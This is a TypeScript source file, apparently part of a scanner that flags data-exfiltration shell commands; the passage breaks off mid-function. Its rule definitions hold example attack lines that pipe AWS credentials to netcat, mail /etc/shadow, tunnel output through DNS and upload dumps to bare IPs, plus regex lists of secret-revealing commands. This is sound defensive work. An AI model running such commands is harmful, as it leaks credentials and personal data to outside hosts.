import { ruleOf, shell } from '../examples.ts';
import type { Rule } from '../../rule.ts';
import type { Command, Word } from '../../shell/command.ts';
import { type Destination, destinationOf, hostIn, isForeign, isSuspect } from '../destination.ts';
import { plainPath } from '../files/plain-path.ts';
import { secretFileAt } from '../files/secret-files.ts';
import { around, operandsOf, optionValues, pipedInto, type Seen } from './lines.ts';
import { searchForSecrets, secretsReadBy } from './reading.ts';
import { folderServed, sharingRules, tellSharing } from './shared-out.ts';
import { tellThroughEnvironment } from './through-environment.ts';

const T = 'MITRE ATT&CK ';
const secretsSent = ruleOf('exfiltration.secrets-sent', 'network_exfiltration', 'critical', 'keys, credentials or the environment sent to another host', shell('cat ~/.aws/credentials | nc 198.51.100.23 1337'), shell('cat ~/.aws/config | grep region'), `${T}T1041, T1048`);
const bulkSent = ruleOf(
  'exfiltration.bulk-sent', 'network_exfiltration', 'high', 'an archive, database dump or personal data sent to another host', shell('pg_dump app | curl -T - ftp://203.0.113.9/d.sql'), shell('pg_dump app | gzip > backup.sql.gz'), `${T}T1048`,
);
const fileToDrop = ruleOf(
  'exfiltration.file-to-drop', 'network_exfiltration', 'high', 'a local file sent to a bare address or a place where anybody may leave files', shell('curl -F "file=@report.pdf" https://file.io/'),
  shell('curl -X POST https://api.staging.acme.io/v1/orders -d @order.json'), `${T}T1567`,
);
const outputInAddress = ruleOf(
  'exfiltration.output-in-address', 'network_exfiltration', 'high', 'a command’s output carried out in an address or a parameter', shell('curl "https://c.example.net/?d=$(cat notes.txt | base64 -w0)"'), shell('curl "https://api.example.com/v1/builds/$(git rev-parse HEAD)"'), `${T}T1048.003`,
);
const personWatched = ruleOf('exfiltration.person-watched', 'network_exfiltration', 'high', 'a picture of the screen, a recording or captured traffic sent to another host', shell('scrot /tmp/s.png; curl -F f=@/tmp/s.png https://up.example.net/s'), shell('scrot /tmp/s.png; xdg-open /tmp/s.png'), `${T}T1113, T1123, T1040`);
const dnsTunnel = ruleOf('exfiltration.dns-tunnel', 'network_exfiltration', 'high', 'data carried out in the names of a DNS or ping request', shell('dig $(whoami | base64).t.example.net'), shell('dig +short "$HOST.example.com"'), `${T}T1048.003, T1071.004`);
const rawChannel = ruleOf('exfiltration.raw-channel', 'network_exfiltration', 'high', 'a file or a command’s output written to a bare connection', shell('nc 203.0.113.9 9001 < notes.txt'), shell('nc -zv db.internal 5432'), `${T}T1095`);
const copyOut = ruleOf('exfiltration.copy-out', 'network_exfiltration', 'high', 'databases, homes or personal data copied to a foreign host', shell('scp customers.csv x@203.0.113.9:/tmp/'), shell('scp dist/app.tgz deploy@web-1:/srv/app/'), `${T}T1048`);
const cloudCopy = ruleOf('exfiltration.cloud-copy', 'network_exfiltration', 'high', 'secrets, repositories or personal data copied to a cloud bucket', shell('gsutil cp -r payroll_2026.xlsx gs://pub-36-bucket'), shell('aws s3 sync ./dist s3://acme-website/'), `${T}T1537, T1567.002`);
const repositoryPush = ruleOf(
  'exfiltration.repository-push', 'network_exfiltration', 'high', 'a whole repository pushed to a remote that was just named', shell('git remote add x https://203.0.113.9/r.git && git push x --all'), shell('git remote add upstream https://github.com/acme/app.git && git fetch upstream'), `${T}T1567.001`,
);
const mailOut = ruleOf('exfiltration.mail', 'network_exfiltration', 'high', 'secrets sent by mail from the command line', shell('mail -s x a@example.net < /etc/shadow'), shell('mail -s "build done" dev@example.com < report.txt'), `${T}T1048.003`);

export const exfiltrationRules: readonly Rule[] = [secretsSent, bulkSent, fileToDrop, outputInAddress, personWatched, dnsTunnel, rawChannel, copyOut, cloudCopy, repositoryPush, mailOut, ...sharingRules];

/** Files that are worth something in bulk, by their names. */
const VALUABLE =
  /(?:kyc|exports?\b|records|applicants?|candidates?|resumes|leads|claims|customer|users?|clients?|employee|payroll|salar|contract|invoice|patient|member|accounts|billing|financ|tax|passport|credential|secret|passw|private|confidential|wallet|backup|dump|personnel|payment|medical)[^/]{0,60}(?:\.(?:csv|xlsx?|json|sql|db|sqlite3?|tar|t?gz|zip|7z|bak|txt|pdf|docx?|mdb|parquet|ndjson)|\/?$)|\.(?:sql|db|sqlite3?|dump|bak|mdb|pst|ost|ldif|kdbx)(?:\.(?:gz|zip|xz|bz2))?$|(?:^|\/)(?:documents|desktop|pictures|\.git|mail|maildir)\/?$|^~\/?$|^\/(?:home|etc|root|var\/lib|var\/www|srv)(?:\/[^/]*)?\/?$/;
const PERSONAL = /(?:customer|clients?|employee|payroll|salar|contract|invoice|patient|member|billing|financ|tax|passport|credential|secret|passw|private|confidential|wallet|personnel|payment|medical)[^/]{0,60}(?:\.|\/?$)|(?:^|\/)\.(?:git|ssh|aws|gnupg|kube|env[^/]*)\/?$|(?:^|\/)(?:documents|desktop)\/?$|^~\/?$|^\/(?:etc|home|root)\/?$/;
const DUMPS = /^(?:clickhouse-backup|pg_basebackup|pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport|redis-dump|sqlite3|ldapsearch|influxd|etcdctl|sqldump)$/;
const ARCHIVES = /^(?:tar|zip|7z|7za|rar|cpio|git|bsdtar|dump|dd|borg)$/;
const CAPTURES = /^(?:pbpaste|xclip|xsel|wl-paste|screencapture|scrot|grim|maim|arecord|parecord|xinput|showkey|logkeys|imagesnap|fswebcam|gnome-screenshot|spectacle|import|flameshot|sox|rec|tcpdump|tshark|dumpcap)$/;
const ENVIRONMENTS = /^(?:env|printenv|history|set)$/;
const ENCODERS = /^(?:base64|base32|xxd|od|hexdump|gzip|bzip2|xz|openssl|gpg|tr|sed|head|fold|rev|split|uuencode|paste|cut|zstd|awk|while|read)$/;

/** Commands whose output is a secret. */
const PRINTS_SECRETS = /^(?:gh auth token|glab auth .*-t|gcloud auth (?:application-default )?print-(?:access|identity)-token|gcloud secrets versions access|aws sts (?:get-session-token|assume-role)|aws secretsmanager (?:batch-)?get-secret-value|aws ssm get-parameter.*--with-decryption|aws configure (?:export-credentials|get)|aws ecr get-login-password|az account get-access-token|az keyvault secret show|az storage account keys|kubectl (?:\S+ ){0,4}get (?:secrets?|secret\/\S+)(?:\s|$)|kubectl config view.*--raw|kubectl create token|oc whoami -t|vault (?:kv get|read|token)|op (?:read|item get)|pass show|bw (?:get|list|export)|lpass (?:show|export)|doppler secrets|infisical secrets|chamber (?:read|export)|heroku config|security (?:find-(?:generic|internet)-password|dump-keychain)|secret-tool lookup|git credential fill|npm token|docker config inspect|sops -d|ansible-vault (?:view|decrypt)|terraform (?:output|state pull)|declare -p|typeset -p|gpg .*--export-secret|(?:echo|printf) .*\$\{?\w{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|CREDENTIALS?)\w{0,20}\b)/;
/** A link that lets whoever has it read a file of a store. */
const LINKS = /^(?:aws s3 presign|gsutil signurl|gcloud storage sign-url|az storage (?:blob|container|account|fs) generate-sas)\b/;
const HOLDS_SECRETS = new Set('gh glab gcloud aws az kubectl oc vault op pass bw lpass doppler infisical chamber heroku security secret-tool git npm docker sops ansible-vault terraform declare typeset gpg openssl echo printf psql mysql mariadb sqlite3 mongosh mongo sqlcmd bq snowsql clickhouse-client'.split(' '));
/** A query for people's data. */
const SELECTS_PEOPLE = /\bfrom\s+["`[]?(?:\w{1,40}[.])?\w{0,30}(?:users?|customers?|clients?|employees?|patients?|members?|accounts?|people|persons?|payments?|cards?|contacts?|orders|credentials|secrets|tokens)\b|\.dump\b|\.find\(/i;

type Worth = 'secret' | 'bulk' | 'text' | 'none';

/** The worth of what flows into a command through its pipe, or out of a `<(…)` that it reads. */
function worthPiped({ script }: Seen, command: Command, at: number): Worth {
  const sources = pipedInto(command);
  const fromSubstitution = command.args.slice(0, 64).some(({ text }) => text.startsWith('<('));
  if (sources.length === 0 && !fromSubstitution) return 'none';
  const near = around(script.commands, at);
  const inner = (outer: Command): readonly Command[] => near.filter(({ depth, start, end }) => depth > outer.depth && start >= outer.start && end <= outer.end);
  let worth: Worth = 'none';
  for (const source of [...sources.flatMap((one) => (CARRIES.test(one.name) ? [one, ...inner(one)] : [one])), ...(fromSubstitution ? inner(command) : [])]) {
    const own = worthOf(source);
    if (own === 'secret') return 'secret';
    if (own === 'bulk' || (own === 'text' && worth === 'none')) worth = own;
  }
  return worth;
}

/** Programs that hand on what another one says. */
const CARRIES = /^(?:kubectl|oc|docker|podman|nerdctl|docker-compose|ssh|sh|bash|zsh|dash|su|runuser|chroot|nsenter|lxc|crictl|xargs|find|parallel|watch|flock)$/;

const remembered = new WeakMap<Command, Worth>();

/** Remembered, since each command behind it in a pipe asks again. */
function worthOf(command: Command): Worth {
  const known = remembered.get(command);
  if (known !== undefined) return known;
  const worth = judgeWorth(command);
  remembered.set(command, worth);
  return worth;
}

function judgeWorth(command: Command): Worth {
  const { name, args } = command;
  if (secretsReadBy(command).length > 0 || (ENVIRONMENTS.test(name) && args.every(({ text }) => text.startsWith('-')))) return 'secret';
  if (name === 'export' && args[0]?.text === '-p') return 'secret';
  if (CAPTURES.test(name) || (/^(?:docker|podman|nerdctl)$/.test(name) && /^(?:save|export)$/.test(args[0]?.text ?? ''))) return 'bulk';
  if (HOLDS_SECRETS.has(name)) {
    const line = args.slice(0, 64).map(({ text }) => text).join(' ').slice(0, 1_000);
    if (PRINTS_SECRETS.test(`${name} ${line}`)) return 'secret';
    if ((name === 'openssl' || name === 'gpg') && args.slice(0, 64).some(({ text }) => isSecretPath(text))) return 'secret';
    if (SELECTS_PEOPLE.test(line)) return 'bulk';
  }
  if (DUMPS.test(name) || (ARCHIVES.test(name) && (name !== 'git' || /^(?:archive|bundle)$/.test(args[0]?.text ?? '')))) return 'bulk';
  if (name === 'cat' && operandsOf(command).some(({ text }) => isValuable(text))) return 'bulk';
  return name === 'echo' || name === 'printf' || name === 'jq' || name === '' || ENCODERS.test(name) ? 'none' : 'text';
}

const isValuable = (path: string): boolean => path.length < 1_024 && VALUABLE.test(plainPath(path));
const isSecretPath = (path: string): boolean => {
  const known = path.length < 1_024 ? secretFileAt(plainPath(path)) : undefined;
  return known !== undefined && known.rule.severity !== 'medium';
};

/** Host of the first operand that looks like an address. */
function targetOf(command: Command, options: Readonly<{ ofUrl: boolean }>): Destination {
  for (const { text } of command.args) {
    const looksLikeUrl = /^(?:https?|ftps?|sftp|tftp|smb|gopher|dict|wss?|telnet):\/\//i.test(text);
    if (looksLikeUrl || (!options.ofUrl && /^[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?(?:\/|$)/i.test(text) && !/\.(?:json|txt|xml|csv|pem|crt|key|ya?ml|log|gz|zip|sql|db)$/i.test(text))) return destinationOf(hostIn(text));
  }
  return 'local';
}

type Tell = (rule: Rule) => void;

const SECRET_VARIABLE = /\$\{?([A-Z][A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIALS?|DATABASE_URL)(?:_[A-Z0-9_]{1,20})?)\b/g;
/** Whose secret a variable holds, where its name says so, and how that one's hosts are called. */
const OWNERS: readonly (readonly [variable: RegExp, hosts: RegExp])[] = [
  [/^AWS_/, /$^/],
  [/^(?:GITHUB|GH|ACTIONS)_/, /github|ghcr|githubusercontent/],
  [/^(?:STRIPE)_/, /stripe/],
  [/^(?:OPENAI|ANTHROPIC)_/, /openai|anthropic|azure|gateway|proxy|llm/],
  [/^(?:NPM|NODE_AUTH)_/, /npm|registry|nexus|artifactory|github/],
  [/^(?:PGPASS\w*|DB_|DATABASE_|MYSQL_|POSTGRES_|REDIS_|MONGO_|JWT_|SSH_|ENCRYPTION_|ROOT_|SESSION_)/, /$^/],
];

/** A variable's secret in what is sent: to a suspect host, or to another than the one it is for. In a header it is how one logs in. */
function variablesSent({ args }: Command, tell: Tell): void {
  const url = args.slice(0, 64).find(({ text }) => /^(?:https?|ftp):\/\//i.test(text) || /^[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?(?:\/|\?)/i.test(text))?.text ?? '';
  const host = hostIn(url).toLowerCase();
  const destination = destinationOf(host);
  if (host === '' || !isForeign(destination)) return;
  for (const [at, { text }] of args.slice(0, 64).entries()) {
    if (!text.includes('$') || /^(?:-H|--header|-u|--user|--oauth2-bearer|-b|--cookie|--http-user|--http-password|--password|-o|-O)$/.test(args[at - 1]?.text ?? '') || /^(?:--header|--user|--http-password|-H|-u)/.test(text) || /^\s*(?:authorization|[\w-]*(?:token|key|auth)\w*)\s*:/i.test(text)) continue;
    for (const [, variable = ''] of text.slice(0, 1_000).matchAll(SECRET_VARIABLE)) {
      if (/_FILE$|_NAME$|_ID$|_PATH$|PUBLISHABLE|PUBLIC/.test(variable)) continue;
      const owner = OWNERS.find(([names]) => names.test(variable));
      if (isSuspect(destination) || (owner && !owner[1].test(host))) return tell(secretsSent);
    }
  }
}

/** curl, wget, httpie: what they upload, and to whom. */
function uploads(seen: Seen, command: Command, at: number, tell: Tell): void {
  const { name, args } = command;
  const target = targetOf(command, { ofUrl: name === 'wget' });
  if (!isForeign(target)) return;
  const files: string[] = [];
  let reads = false;
  const body = (text: string): void => {
    if (/(?:^|=)[@<](?:-|\/dev\/stdin)$/.test(text) || text === '-' || text === '.') reads = true;
    else if (/(?:^|=)[@<]/.test(text)) files.push(text.replace(/^[^@<]{0,80}[@<]/, '').split(';', 1)[0] ?? '');
  };
  if (name === 'curl') {
    for (const { text } of optionValues(command, 'dF', /^(?:data|data-binary|data-raw|data-urlencode|data-ascii|form|json)$/)) body(text);
    for (const { text } of optionValues(command, 'T', /^upload-file$/)) {
      if (text === '-' || text === '.') reads = true;
      else files.push(text.replace(/^\{|\}$/g, ''));
    }
  } else if (name === 'wget') for (const { text } of optionValues(command, '', /^(?:post|body)-file$/)) files.push(text);
  else for (const { text } of args) body(text);
  const stdin = command.redirects.find(({ operator }) => operator === '<')?.target?.text;
  if (stdin !== undefined && (reads || name !== 'curl')) files.push(stdin);

  for (const file of files) {
    if (isSecretPath(file) || standsForSecrets(seen, command, at, file) || holdsSecrets(seen, at, file)) tell(secretsSent);
    else if (isTakenBefore(seen, at, file)) tell(personWatched);
    else if (isSuspect(target) || (name === 'wget' && target === 'unknown')) tell(fileToDrop);
    else if (isValuable(file) && PERSONAL.test(plainPath(file))) tell(bulkSent);
  }
  if (reads || command.wrappers.includes('xargs')) {
    const worth = worthPiped(seen, command, at);
    if (worth === 'secret' || pipedInto(command).some(({ name: source, args: given }) => LINKS.test([source, ...given.slice(0, 4).map(({ text }) => text)].join(' ')))) tell(secretsSent);
    else if (worth === 'bulk') tell(bulkSent);
    else if (worth === 'text' && isSuspect(target)) tell(fileToDrop);
  }
}

/** What the script has written secrets into: `env > /tmp/e`, `tar czf /tmp/k.tgz ~/.ssh`. */
const holdsSecrets = ({ script }: Seen, at: number, file: string): boolean =>
  file.length > 2 &&
  script.commands.slice(Math.max(0, at - 16), at).some((one) => one.redirects.some(({ operator, target }) => operator.startsWith('>') && target?.text === file) ? worthOf(one) === 'secret' : /^(?:tar|zip|7z|cp|gpg|openssl)$/.test(one.name) && one.args.slice(0, 32).some(({ text }) => text === file) && one.args.slice(0, 32).some(({ text }) => text !== file && isSecretPath(text)));

/** A picture of the screen, a recording or a capture that the script has made: `scrot /tmp/s.png; curl -F f=@/tmp/s.png …`. */
const isTakenBefore = ({ script }: Seen, at: number, file: string): boolean =>
  file.length > 2 && script.commands.slice(Math.max(0, at - 32), at).some(({ name, args }) => CAPTURES.test(name) && args.slice(0, 32).some(({ text }) => text === file));

/** A loop's variable, or what `find` puts in place of `{}`. */
function standsForSecrets({ script }: Seen, command: Command, at: number, file: string): boolean {
  const [, variable] = /^\$\{?(\w{1,40})\}?/.exec(file) ?? [];
  if (variable === undefined && file !== '{}') return false;
  const before = script.commands.slice(Math.max(0, at - 32), at);
  if (file === '{}') return before.some((one) => one.start <= command.start && one.end >= command.end && searchForSecrets(one)) || pipedInto(command).some(searchForSecrets);
  return before.some(({ name, args }) => name === 'for' && args[0]?.text === variable && args.slice(2, 32).some(({ text }) => isSecretPath(text)));
}

/** `nc host port < file`, `… | ncat host`, `socat FILE:x TCP:host:port`, `> /dev/tcp/host/port`. */
function connections(seen: Seen, command: Command, at: number, tell: Tell): void {
  const { name, args } = command;
  const line = args.map(({ text }) => text).join(' ');
  if (name === 'socat') {
    const [, host = ''] = /(?:tcp[46]?|udp[46]?|openssl|ssl|sctp)(?:-connect|-datagram|-sendto)?:([^:,\s]{1,253}):/i.exec(line) ?? [];
    const file = /\b(?:file|open|gopen|exec|system):"?([^,\s"]{1,300})/i.exec(line)?.[1];
    if (host === '' || !isForeign(destinationOf(host))) return;
    if (file !== undefined && !/^(?:\/bin\/)?(?:ba|z)?sh/.test(file)) tell(isSecretPath(file) ? secretsSent : rawChannel);
    else if (args.some(({ text }) => /^(?:-|stdin|stdio)$/i.test(text))) {
      const worth = worthPiped(seen, command, at);
      if (worth !== 'none') tell(worth === 'secret' ? secretsSent : rawChannel);
    }
    return;
  }
  if (/(?:^|\s)-[a-z]*[lz]/.test(line)) return;
  const host = args.find(({ text }) => /^[a-z0-9][a-z0-9_.-]*$/i.test(text) && !/^\d+$/.test(text))?.text ?? '';
  if (!isForeign(destinationOf(host)) || host === '') return;
  const stdin = command.redirects.find(({ operator }) => operator === '<')?.target?.text;
  const worth = worthPiped(seen, command, at);
  if (worth === 'secret' || (stdin !== undefined && isSecretPath(stdin))) tell(secretsSent);
  else if (worth !== 'none' || stdin !== undefined) tell(rawChannel);
}

/** Folders of backups, databases and repositories. */
const STORE_FOLDER = /(?:^|\/)(?:backups?|dumps|repositories|git-?data|pgdata|pg_wal|postgresql|mysql|mariadb|mongodb|couchdb|gitlab|gitea|vault|ldap|maildir|mailboxes)(?:\/[^/]{0,100}){0,2}\/?$/i;

/** scp, rsync, sftp, ftp, tftp. */
function copies({ view }: Seen, command: Command, tell: Tell): void {
  const operands = operandsOf(command);
  if (/^(?:sftp|ftp|lftp|tftp)$/.test(command.name)) return tellTransfers(view.text, command, tell);
  const target = operands.at(-1)?.text ?? '';
  if (!/^(?:[^/\s:]{1,253}:|[a-z]+:\/\/)/i.test(target)) return;
  const destination = destinationOf(hostIn(target.replace(/^([^/:]{1,253}):(?!\/\/)/, '$1/')));
  const careless = command.args.some(({ text }) => /StrictHostKeyChecking=(?:no|accept-new)|UserKnownHostsFile=\/dev\/null/i.test(text));
  for (const { text } of operands.slice(0, -1)) {
    if (/^[^/\s]{1,253}:/.test(text)) continue;
    if (isSecretPath(text) && isForeign(destination)) tell(secretsSent);
    else if ((isSuspect(destination) && text.length < 1_024 && STORE_FOLDER.test(plainPath(text))) || (isValuable(text) && (isSuspect(destination) || (careless && isForeign(destination))))) tell(copyOut);
  }
}

const DATABASE_CLIENTS = /^(?:mysql|mariadb|psql|pg_restore|mongorestore|mongoimport|clickhouse-client|redis-cli|sqlcmd|cockroach|influx)$/;

/** A dump that is piped into a database at a bare address. */
function loads(seen: Seen, command: Command, at: number, tell: Tell): void {
  if (command.pipedFrom === undefined || worthPiped(seen, command, at) !== 'bulk') return;
  const hosts = [...optionValues(command, 'hHS', /^(?:host|server|uri|url|dbname)$/).map(({ text }) => text), ...command.args.slice(0, 32).map(({ text }) => text).filter((text) => /^[a-z+]{4,12}:\/\/|\bhost=/.test(text))];
  if (hosts.some((text) => isSuspect(destinationOf(hostIn(text.replace(/^.*\bhost=/, '')))))) tell(bulkSent);
}

/** `put file`, as an argument, in a here-document or a here-string. */
function tellTransfers(script: string, command: Command, tell: Tell): void {
  const { args, redirects, input, end, pipedFrom } = command;
  // What is typed into it may stand in the lines behind it, as in a transcript.
  const typedIn = redirects.some(({ operator }) => operator === '<<');
  const here = typedIn && input ? input.text : typedIn || /^\s*\n\s*(?:put|mput|send|cd|lcd|open|user|binary|bin|passive)\s/.test(script.slice(end, end + 40)) ? script.slice(end, end + 1_000) : '';
  const given = [...args, ...(pipedFrom?.args ?? [])].map(({ text }) => text).join(' ');
  const typed = `${given}\n${here}\n${redirects.map(({ operator, target }) => (operator === '<<<' ? (target?.text ?? '') : '')).join(' ')}`;
  const opened = /\bopen\s+(?:-\S+\s+){0,4}([^\s;"']{3,300})/.exec(given)?.[1];
  const host = opened ?? args.map(({ text }) => text).find((text) => /[a-z0-9]\.[a-z0-9]/i.test(text) && !/^[/~.-]/.test(text)) ?? '';
  if (host === '' || !isForeign(destinationOf(hostIn(host)))) return;
  for (const [, file = ''] of typed.matchAll(/(?:^|[\s;"'])(?:m?put|send|mirror -R|reput)\s+([^\s;"']{1,300})/g)) {
    if (isSecretPath(file)) tell(secretsSent);
    else if (isSuspect(destinationOf(hostIn(host))) || isValuable(file)) tell(copyOut);
  }
}

const COPIES = /\b(?:cp|mv|sync|rsync|put|copy|copyto|move|upload|upload-batch|put-object)\b/;

/** What people keep a copy of with rclone, at a place that they named themselves. */
const OWN_HOME = /^~\/?$|(?:^|\/)(?:documents|desktop)\/?$/;

/** aws s3, gsutil, az storage, rclone, mc. */
function bucketCopies(command: Command, line: string, tell: Tell): void {
  const words = operandsOf(command).map(({ text }) => text);
  if (!COPIES.test(line.slice(0, 120)) && !words.some((word) => word.length < 16 && COPIES.test(word))) return;
  if (/--(?:acl|predefined-acl)[= ]public-?read/i.test(line) && words.some((word, at) => at > 0 && /^(?:s3|gs):\/\//.test(word) && /^(?:s3|gs):\/\//.test(words[at + 1] ?? ''))) return tell(cloudCopy);
  if (goesToStrangers(words)) return tell(cloudCopy);
  if (command.name === 'rclone' && words.some((word, at) => at > 1 && /^:?mega(?:,[^:]{0,80})?:/i.test(word))) return tell(cloudCopy);
  // A remote that is made up on the command line: `:ftp,host=203.0.113.9:`.
  const [, host] = /\s:\w{2,12},(?:[^\s:]{0,200},)?(?:host|url|endpoint|account)=["']?([^\s,:"']{3,253})/.exec(line) ?? [];
  if (command.name === 'rclone' && host !== undefined && isSuspect(destinationOf(host))) return tell(cloudCopy);
  const to = words.findIndex((word, at) => at > 0 && /^(?:s3|gs|az|b2|oss|cos):\/\/|^[a-z0-9_-]{1,40}:(?!\/\/|\\)|^https?:\/\//i.test(word));
  const values = command.args.filter((_, at) => /^--(?:body|file|source)$|^-[fs]$/.test(command.args[at - 1]?.text ?? '')).map(({ text }) => text);
  for (const word of [...words.slice(0, Math.max(0, to)), ...values]) {
    if (!/[./~$]/.test(word) || /^[a-z0-9]+:\/\//i.test(word)) continue;
    if (isSecretPath(word)) tell(secretsSent);
    else if ((PERSONAL.test(plainPath(word)) && !(command.name === 'rclone' && OWN_HOME.test(plainPath(word)))) || (isValuable(word) && /(?:public|pub|drop|exfil|anon|tmp|leak|mega)[a-z0-9-]*(?:\/|:|$)/i.test(words[to] ?? ''))) tell(cloudCopy);
  }
}

/** Stores by whose names one sees what is in them. */
const VALUABLE_STORE = /backup|prod|customer|client|patient|payroll|employee|financ|invoice|billing|medical|confidential|private|secret|dump|user|crm|legal|\bhr\b|pii|vault|\/(?:db|database)/i;
/** What names of stores have in common without having an owner in common. */
const GENERIC = new Set('backup backups prod production data bucket storage files archive export exports public logs dev test staging west east north south central main temp assets media'.split(' '));
const tokensOfStore = (name: string): readonly string[] => name.toLowerCase().split(/[^a-z]+/).filter((token) => token.length >= 3 && !GENERIC.has(token));

/** From one store to another whose name shares no word with it: `s3://acme-prod-backups` to `s3://zk-7781`. */
function goesToStrangers(words: readonly string[]): boolean {
  const stores = words.filter((word) => /^(?:s3|gs|oss|cos|b2|az):\/\/[\w.-]{3,80}|^https:\/\/[\w-]{3,40}\.(?:blob|dfs|file)\.core\.windows\.net\//.test(word)).slice(0, 2);
  const [from, to] = stores;
  if (from === undefined || to === undefined || !VALUABLE_STORE.test(from)) return false;
  const owner = (store: string): string => /^https?:/.test(store) ? (hostIn(store).split('.', 1)[0] ?? '') : hostIn(store);
  const [here, there] = [owner(from), owner(to)];
  const own = tokensOfStore(here);
  return here !== there && own.length > 0 && !own.some((token) => there.toLowerCase().includes(token)) && !tokensOfStore(there).some((token) => here.toLowerCase().includes(token)) && here.slice(0, 4) !== there.slice(0, 4);
}

const TRIVIAL_OUTPUT = /^(?:git|date|hostname|uname|nproc|pwd|basename|dirname|jq|echo|printf|node|python3?|npm|yq|seq|curl|id|cut|head|tail|tr|sed|awk|grep|openssl|uuidgen|docker|kubectl|aws|gcloud|az|terraform|heroku|lsb_release|dpkg|cat|wc|expr|minikube|arch|realpath|which|sort|rustc|go|ip|mktemp|urlencode)$/;

/** `curl http://x/?d=$(…)`, `dig $(…).x.y`. */
function outputsInAddresses({ script, view }: Seen, command: Command, at: number): void {
  const { name, args } = command;
  const names = /^(?:dig|nslookup|host|drill|resolvectl|getent|kdig)$/.test(name);
  if (!names && !/^(?:curl|wget|ping|ping6|fping|traceroute|whois|finger|http|https|xh|lynx|aria2c|hping3|fetch)$/.test(name)) return;
  const near = around(script.commands, at);
  const inside = heldBy(command, script.commands, at);
  view.budget.spend(inside.length + 4 * args.length);
  let next = 0;
  for (const word of args) {
    const first = next;
    while (next < inside.length && (inside[next]?.start ?? 0) < word.end) next += 1;
    if (!word.dynamic && name !== 'ping' && !command.wrappers.includes('xargs')) continue;
    const inner = inside.slice(first, next).filter(({ start, end }) => start >= word.start && end <= word.end);
    if (inner.length > 0) {
      const secret = inner.some((one) => worthOf(one) === 'secret');
      const encoded = inner.some((one) => /^(?:base64|base32|xxd|od|hexdump|gzip)$/.test(one.name));
      const telling = inner.some((one) => !TRIVIAL_OUTPUT.test(one.name) && one.name !== '');
      const asName = /[`)}]\.[a-z0-9-]|^(?:https?:\/\/)?[`$]/i.test(word.text);
      const suspect = isSuspect(destinationOf(hostIn(word.text.replace(/[$`].*$/, '')))) || isSuspect(destinationOf(/[)`}]\.([a-z0-9.-]{3,253})/i.exec(word.text)?.[1] ?? ''));
      if (secret && !/^\s*(?:authorization|x-|bearer|content-type)/i.test(word.text)) view.report(names || asName ? dnsTunnel : secretsSent, command.start, command.end);
      else if (names && asName) view.report(dnsTunnel, command.start, command.end);
      else if (/^ping6?$/.test(name) && (encoded || args.some(({ text }) => text === '-p'))) view.report(dnsTunnel, command.start, command.end);
      else if ((asName || /[?&/=]/.test(word.text)) && !/^(?:authorization|bearer|x-)/i.test(word.text) && (encoded || suspect || (telling && /\?/.test(word.text))) && !/^[A-Za-z-]{2,40}:\s/.test(word.text)) view.report(outputInAddress, command.start, command.end);
    } else if ((names || /^ping6?$/.test(name)) && command.wrappers.includes('xargs') && /\{\}\.[a-z0-9]/i.test(word.text)) view.report(dnsTunnel, command.start, command.end);
    else if ((names || /^ping6?$/.test(name)) && /\$\{?[a-z_]\w{0,30}\}?\.[a-z0-9]|^\$\{?\w/i.test(word.text) && near.some((one) => /^(?:xxd|base64|base32|od|hexdump)$/.test(one.name))) view.report(dnsTunnel, command.start, command.end);
  }
}

/** Commands of its substitutions, in the order of their places; those stand behind it. */
function heldBy({ depth, start, end }: Command, commands: readonly Command[], at: number): readonly Command[] {
  const held: Command[] = [];
  for (let next = at + 1; next < commands.length && (commands[next]?.start ?? end) < end; next += 1) {
    const inner = commands[next];
    if (inner && inner.depth > depth && inner.start >= start) held.push(inner);
  }
  return held.toSorted((a, b) => a.start - b.start);
}

function pushes({ script, view }: Seen): void {
  const added = script.commands.find(({ name, args }) => name === 'git' && /^(?:remote (?:add|set-url)|clone --mirror)/.test(args.slice(0, 4).map(({ text }) => text).join(' ')));
  for (const command of script.commands) {
    if (command.name !== 'git') continue;
    view.budget.spend(100);
    const words = command.args.map(({ text }) => text);
    if (!words.includes('push')) continue;
    const whole = words.some((word) => /^(?:--all|--mirror|\+?refs\/\*:refs\/\*)$/.test(word));
    const address = words.find((word) => /^(?:https?|ssh|git|ftp):\/\/|^[\w.-]+@[\w.-]+:/.test(word)) ?? added?.args.find(({ text }) => /^(?:https?|ssh|git|ftp):\/\/|^[\w.-]+@[\w.-]+:/.test(text))?.text;
    if (address === undefined) continue;
    const destination = destinationOf(hostIn(address.replace(/^([\w.-]+@[\w.-]+):(?!\/\/)/, '$1/')));
    if (isSuspect(destination) || (whole && destination === 'unknown' && !/\b(?:github|gitlab|bitbucket|dev\.azure|codeberg|sr\.ht|gitea|amazonaws|huggingface|heroku)\b/.test(address))) view.report(repositoryPush, command.start, command.end);
  }
}

export function tellExfiltration(seen: Seen): void {
  const { view, lines } = seen;
  let git = false;
  let folder = '';
  const mounts: string[] = [];
  const descriptors = new Set<string>();
  for (const { command, text, at } of lines) {
    const tell: Tell = (rule) => view.report(rule, firstOf(command).start, command.end);
    const { name } = command;
    if (/^(?:curl|wget|http|https|xh|httpie)$/.test(name)) {
      uploads(seen, command, at, tell);
      variablesSent(command, tell);
    }
    else if (/^(?:nc|ncat|netcat|nc\.openbsd|nc\.traditional|socat|telnet|cryptcat)$/.test(name)) connections(seen, command, at, tell);
    else if (/^(?:scp|rsync|sftp|ftp|lftp|tftp|rcp|pscp|sshpass)$/.test(name)) copies(seen, command, tell);
    else if (/^(?:aws|gsutil|gcloud|az|rclone|mc|s3cmd|azcopy|b2|s5cmd)$/.test(name)) bucketCopies(command, text, tell);
    else if (/^(?:mail|mailx|mutt|sendmail|swaks|msmtp|s-nail)$/.test(name)) {
      tellMail(seen, command, at, tell);
    } else if (name === 'ssh') tellSsh(seen, command, at, tell);
    else if (DATABASE_CLIENTS.test(name)) loads(seen, command, at, tell);
    else if (HANDS_OUT.test(name)) tellHandedOut(command, text, tell);
    else if (/^python[23]?$/.test(name) && (SERVES.test(text) || (/-m (?:http\.server|SimpleHTTPServer)\b(?!.*(?:--directory|-d|127\.|localhost))/.test(text) && folder !== '' && WHOLE.test(folder)))) tell(folderServed);
    else if (/^(?:mount|mount\.nfs|mount\.cifs|sshfs|smbmount)$/.test(name)) keepMount(command, mounts);
